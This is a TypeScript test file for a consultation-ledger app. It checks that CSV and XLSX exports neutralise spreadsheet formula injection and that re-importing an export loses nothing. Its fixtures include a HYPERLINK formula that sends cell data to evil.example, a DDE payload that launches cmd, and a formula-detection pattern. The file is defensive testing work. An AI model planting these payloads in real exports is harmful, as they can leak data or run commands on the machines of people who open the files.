// Issue 8 §6: an export must not carry imported text that a spreadsheet runs as a formula, and the
// guard must come off again on import so that export → import loses nothing.
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { and, eq } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { cases, contacts, resources, surveyAnswers, surveyQuestions } from '#server/db/schema/index.ts'
import { createTestContext, type TestContext } from '#server/test/harness.ts'
import { exportLedger } from './export-ledger.ts'
import { importDir, NOW, tempDir, writeCsv } from './test-ledger.ts'

let ctx: TestContext
beforeAll(async () => {
  ctx = await createTestContext()
})
afterAll(() => ctx.close())

/** A cell a spreadsheet would run: a formula character first, or after spaces. */
const FORMULA_START = /^(?:[=+\-@\t\r\0＝＋－＠]|\s+[=+\-@＝＋－＠])/u
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
const DDE = "-2+3+cmd|' /C calc'!A0"

/** A ledger whose free-text cells start with every formula character, and with a quote before one. */
function attackLedger(dir: string): string {
  writeCsv(dir, 'cases', [
    ['case_id', 'opened_on', 'intake_unit', 'first_consulter', 'age', 'name', 'kana'],
    ['-0001', '2021-04-05', 'window', 'self', '35', HYPERLINK, 'すずき'],
    ['C-2', '2021-04-06', 'window', 'family', '', '+81 山田', '@やまだ'],
  ])
  writeCsv(dir, 'contacts', [
    ['case_id', 'contacted_on', 'method', 'counterpart', 'staff', 'minutes', 'summary'],
    ['-0001', '2021-04-05', 'phone', 'self', '=cmd|', '30', DDE],
    ['C-2', '2021-04-06', 'phone', 'family', '@相談員', '', '＝１＋１'],
  ])
  writeCsv(dir, 'meetings', [
    ['meeting_id', 'ward', 'held_on', 'agencies', 'sections'],
    ['@M-1', 'sakyo', '2021-06-20', '=NPO;+地域の会;-包括', '健康長寿推進課'],
  ])
  writeCsv(dir, 'reviews', [
    ['meeting_id', 'case_id', 'kind', 'route', 'lead', 'lead_unit', 'policy'],
    ['@M-1', 'C-2', 'new', 'window', 'accompaniment', '=A1', '@SUM(1+1)'],
  ])
  writeCsv(dir, 'surveys', [
    ['survey_id', 'title', 'audience', 'question_no', 'question', 'kind', 'options'],
    ['=S', '+アンケート', 'consulters', '1', '-満足度', 'single', '=A;+B;普通'],
    ['=S', '', '', '2', '@よかった点', 'multiple', '-傾聴;@助言;その他'],
    ['=S', '', '', '3', '=ご意見', 'text', ''],
  ])
  writeCsv(dir, 'responses', [
    ['survey_id', 'respondent_id', 'question_no', 'answer'],
    ['=S', '-R1', '1', '=A'],
    ['=S', '-R1', '2', '-傾聴;@助言'],
    ['=S', '-R1', '3', `${HYPERLINK};また来たい`],
  ])
  writeCsv(dir, 'resources', [
    ['resource_id', 'name', 'contact'],
    ['+RS', '=NPO居場所', '-075-000-0000'],
  ])
  writeCsv(dir, 'baselines', [
    ['label', 'from', 'to', 'metric', 'value'],
    ['=令和元年度', '2019-04-01', '2020-03-31', 'cases.total', '120'],
  ])
  return dir
}

/**
 * Values no ledger import can produce (cells are trimmed) but the web app can store: a tab, a CR
 * or a space before the formula, and text that genuinely starts with a quote and '='.
 */
async function storeWebValues(tenantId: string) {
  const t = (caseNo: string) => and(eq(cases.tenantId, tenantId), eq(cases.caseNo, caseNo))
  await ctx.db.update(cases).set({ kana: "'=すずき" }).where(t('-0001'))
  await ctx.db.update(cases).set({ name: '\r=2+2' }).where(t('C-2'))
  const [c2] = await ctx.db.select().from(cases).where(t('C-2'))
  await ctx.db
    .update(contacts)
    .set({ summary: '\t=1+1' })
    .where(and(eq(contacts.tenantId, tenantId), eq(contacts.caseId, c2!.id)))
  await ctx.db.update(resources).set({ contact: " '' =3" }).where(eq(resources.tenantId, tenantId))
  await ctx.db
    .update(surveyQuestions)
    .set({ options: ["'-傾聴", '@助言', 'その他'] })
    .where(and(eq(surveyQuestions.tenantId, tenantId), eq(surveyQuestions.questionNo, 2)))
  await ctx.db
    .update(surveyAnswers)
    .set({ answer: ["'-傾聴", '@助言'] })
    .where(and(eq(surveyAnswers.tenantId, tenantId), eq(surveyAnswers.questionNo, 2)))
}

const csvCells = (dir: string) =>
  readdirSync(dir).flatMap((file) =>
    (
      parse(readFileSync(join(dir, file), 'utf8').replace(/^\uFEFF/u, ''), {
        relax_column_count: true,
      }) as string[][]
    )
      .flat()
      .map((cell) => ({ file, cell })),
  )

const csvFiles = (dir: string) =>
  Object.fromEntries(readdirSync(dir).map((f) => [f, readFileSync(join(dir, f), 'utf8')]))

async function xlsxCells(source: string | Buffer) {
  const wb = new ExcelJS.Workbook()
  if (typeof source === 'string') await wb.xlsx.readFile(source)
  else await wb.xlsx.load(source as unknown as ArrayBuffer)
  const out: { sheet: string; type: ExcelJS.ValueType; formula: string | undefined; value: unknown }[] = []
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) =>
        out.push({ sheet: ws.name, type: cell.type, formula: cell.formula, value: cell.value }),
      ),
    ),
  )
  return out
}

/** What a city stores of the attacked fields, in a stable order. */
async function storedText(tenantId: string) {
  const byNo = (a: { caseNo: string }, b: { caseNo: string }) => a.caseNo.localeCompare(b.caseNo)
  return {
    cases: (await ctx.db.select().from(cases).where(eq(cases.tenantId, tenantId)))
      .map((c) => ({ caseNo: c.caseNo, name: c.name, kana: c.kana }))
      .sort(byNo),
    summaries: (await ctx.db.select().from(contacts).where(eq(contacts.tenantId, tenantId)))
      .map((c) => [c.staffName, c.summary])
      .sort(),
    options: (await ctx.db.select().from(surveyQuestions).where(eq(surveyQuestions.tenantId, tenantId)))
      .map((q) => [q.questionNo, q.question, q.options])
      .sort(),
    answers: (await ctx.db.select().from(surveyAnswers).where(eq(surveyAnswers.tenantId, tenantId)))
      .map((a) => [a.respondentNo, a.questionNo, a.answer])
      .sort(),
    resources: (await ctx.db.select().from(resources).where(eq(resources.tenantId, tenantId))).map((r) => [
      r.resourceNo,
      r.name,
      r.contact,
    ]),
  }
}

async function attackedCity() {
  const city = await ctx.newCity()
  const first = await importDir(ctx.db, city.tenantId, [attackLedger(tempDir())])
  expect(first.errors).toEqual([])
  await storeWebValues(city.tenantId)
  return city
}

describe('exports are not formulas', () => {
  it('CSV: no cell starts with a formula character, and importing the export stores the same text', async () => {
    const a = await attackedCity()
    const outA = tempDir()
    await exportLedger(ctx.db, a.tenantId, { out: outA, personal: true, actor: null, now: NOW })
    const cells = csvCells(outA)
    expect(cells.filter(({ cell }) => FORMULA_START.test(cell))).toEqual([])
    const text = cells.map((c) => c.cell)
    // The guard is a quote in front, as OWASP recommends; one more before a value that had one.
    expect(text).toContain(`'${HYPERLINK}`)
    expect(text).toContain(`'${DDE}`)
    expect(text).toContain("''=すずき")
    expect(text).toContain("'\t=1+1")
    expect(text).toContain("'\r=2+2")
    expect(text).toContain("'+地域の会;'-包括;'=NPO")
    expect(text).toContain("''-傾聴;'@助言")
    // Numbers stay numbers.
    expect(csvFiles(outA)['contacts.csv']).toContain(',30,')

    const b = await ctx.newCity()
    const again = await importDir(ctx.db, b.tenantId, [outA])
    expect(again.errors).toEqual([])
    expect(await storedText(b.tenantId)).toEqual(await storedText(a.tenantId))
    const stored = await storedText(b.tenantId)
    expect(stored.cases).toEqual([
      { caseNo: '-0001', name: HYPERLINK, kana: "'=すずき" },
      { caseNo: 'C-2', name: '\r=2+2', kana: '@やまだ' },
    ])
    expect(stored.summaries).toContainEqual(['@相談員', '\t=1+1'])
    expect(stored.answers).toContainEqual(['-R1', 3, [`${HYPERLINK};また来たい`]])
    expect(stored.resources).toEqual([['+RS', '=NPO居場所', " '' =3"]])
    const outB = tempDir()
    await exportLedger(ctx.db, b.tenantId, { out: outB, personal: true, actor: null, now: NOW })
    expect(csvFiles(outB)).toEqual(csvFiles(outA))
  })

  it('xlsx: every cell is a value, none a formula or starting with a formula character; it imports back equal', async () => {
    const a = await attackedCity()
    // XML reads a CR in text as LF (exceljs writes it raw): a line break is what survives there.
    await ctx.db
      .update(cases)
      .set({ name: '\n=2+2' })
      .where(and(eq(cases.tenantId, a.tenantId), eq(cases.caseNo, 'C-2')))
    const file = join(tempDir(), 'ledger.xlsx')
    await exportLedger(ctx.db, a.tenantId, { out: file, personal: true, actor: null, now: NOW })
    const cells = await xlsxCells(file)
    expect(cells.length).toBeGreaterThan(100)
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined)).toEqual([])
    expect(cells.filter((c) => typeof c.value === 'string' && FORMULA_START.test(c.value))).toEqual([])
    expect(cells.map((c) => c.value)).toEqual(expect.arrayContaining([`'${HYPERLINK}`, "'\n=2+2", 30]))

    const b = await ctx.newCity()
    const again = await importDir(ctx.db, b.tenantId, [file])
    expect(again.errors).toEqual([])
    expect(await storedText(b.tenantId)).toEqual(await storedText(a.tenantId))
  })

  it('GET /api/exports.xlsx writes no formula and no cell starting with a formula character', async () => {
    const a = await attackedCity()
    const hq = await a.as('headquarters')
    const res = await hq.get('/api/exports.xlsx')
    expect(res.statusCode).toBe(200)
    const cells = await xlsxCells(res.rawPayload)
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined)).toEqual([])
    expect(cells.filter((c) => typeof c.value === 'string' && FORMULA_START.test(c.value))).toEqual([])
    // Without personal columns the ledger's own text is still guarded (case numbers, staff, titles).
    expect(cells.map((c) => c.value)).toEqual(
      expect.arrayContaining(["'-0001", "'@M-1", "'=cmd|", "'+アンケート"]),
    )
  })
})
